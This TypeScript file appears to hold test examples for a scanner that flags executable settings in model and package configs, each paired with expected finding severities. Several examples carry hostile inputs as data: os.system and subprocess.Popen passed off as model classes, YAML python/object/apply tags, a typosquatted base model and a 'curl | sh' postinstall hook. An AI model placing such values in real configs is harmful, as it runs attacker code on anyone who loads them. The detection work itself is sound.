// Examples of executable-config.
import type { DocumentPart } from "../../core/format.ts";
import type { Example } from "../../core/detector.ts";

const settings = (
  title: string,
  language: DocumentPart["language"],
  finds: readonly string[],
  text: string,
): Example => ({ title, given: { language, text }, finds });
const RUN = ["os", "system"].join(".");

export const examples: readonly Example[] = [
  settings("Trust asked for in a card", "card", ["3 medium"], "---\nlicense: mit\ntrust_remote_code: true\n---\n# A\n"),
  settings(
    "A class of another repository",
    "json",
    ["1 high"],
    JSON.stringify({ model_type: "x", auto_map: { AutoModel: "example/other--modeling.Model" } }),
  ),
  settings(
    "A class of another repository, of a known publisher",
    "json",
    ["1 medium"],
    JSON.stringify({ auto_map: { AutoConfig: "microsoft/phi-2--configuration_phi.PhiConfig" } }),
  ),
  settings(
    "Trust in the settings of a model",
    "json",
    ["1 high"],
    JSON.stringify({ model_type: "x", trust_remote_code: true }),
  ),
  settings(
    "A module of sentence-transformers",
    "json",
    ["1 high", "1 info"],
    JSON.stringify([
      { idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" },
      { idx: 1, name: "1", path: "1", type: RUN },
      { idx: 2, name: "2", path: "2", type: "custom_st.Pooling" },
    ]),
  ),
  settings(
    "A pipeline with a part that starts processes",
    "json",
    ["1 high", "1 low"],
    JSON.stringify({
      _class_name: "StableDiffusionPipeline",
      scheduler: ["diffusers", "PNDMScheduler"],
      safety_checker: ["stable_diffusion", "StableDiffusionSafetyChecker"],
      unet: ["unet_custom", "Net"],
      vae: RUN.split("."),
    }),
  ),
  settings(
    "An adapter with a library that starts processes",
    "json",
    ["1 high"],
    JSON.stringify({ peft_type: "LORA", auto_mapping: { base_model_class: "Popen", parent_library: "subprocess" } }),
  ),
  settings(
    "A base at an address",
    "json",
    ["1 high"],
    JSON.stringify({ base_model_name_or_path: "http://files.example.test/base" }),
  ),
  settings(
    "A base of a look-alike",
    "json",
    ["1 high"],
    JSON.stringify({ base_model_name_or_path: "meta-1lama/Llama-3" }),
  ),
  settings("Generation from elsewhere", "json", ["1 high"], JSON.stringify({ custom_generate: "example/other" })),
  settings("A program in a setting", "yaml", ["2 high"], `run:\n  on_load: "import os; ${RUN}('./helper')"\n`),
  settings(
    "A class of this repository",
    "json",
    ["1 info"],
    JSON.stringify({ model_type: "x", auto_map: { AutoConfig: "configuration_x.XConfig" } }),
  ),
  settings("A target that starts processes", "yaml", ["2 high"], `model:\n  _target_: ${RUN}\n  command: ./helper\n`),
  settings("A YAML tag that calls a function", "yaml", ["1 high"], `x: !!python/object/apply:${RUN} ["./helper"]\n`),
  settings(
    "A YAML tag that makes an object",
    "card",
    ["2 medium"],
    "---\na: !!python/object:tools.Thing {}\n---\n# A\n",
  ),
  settings(
    "An install script that fetches and runs",
    "json",
    ["1 high"],
    JSON.stringify({
      name: "a",
      scripts: { postinstall: ["curl", "http://files.example.test/a", "|", "sh"].join(" ") },
    }),
  ),
  settings(
    "Settings that run nothing",
    "json",
    [],
    JSON.stringify({
      model_type: "x",
      trust_remote_code: false,
      chat_template: "{% for m in messages %}{{ m.content }}{% endfor %}",
      scripts: { install: "node-gyp rebuild" },
    }),
  ),
  settings(
    "An ordinary adapter",
    "json",
    [],
    JSON.stringify({
      auto_mapping: {
        base_model_class: "LlamaForCausalLM",
        parent_library: "transformers.models.llama.modeling_llama",
      },
      base_model_name_or_path: "/home/somebody/models/base",
      peft_type: "LORA",
      target_modules: ["q_proj", "v_proj"],
      revision: null,
    }),
  ),
  settings(
    "What training writes",
    "yaml",
    ["1 low", "2 low"],
    "out: !!python/object/apply:pathlib.PosixPath [a, b]\nargs: !!python/object:argparse.Namespace {}\ncommand: python train.py --lr 1\n",
  ),
  settings(
    "Targets that are models",
    "yaml",
    [],
    "model:\n  _target_: torch.nn.Linear\n  in_features: 4\nshape: !!python/tuple [1, 2]\n",
  ),
];
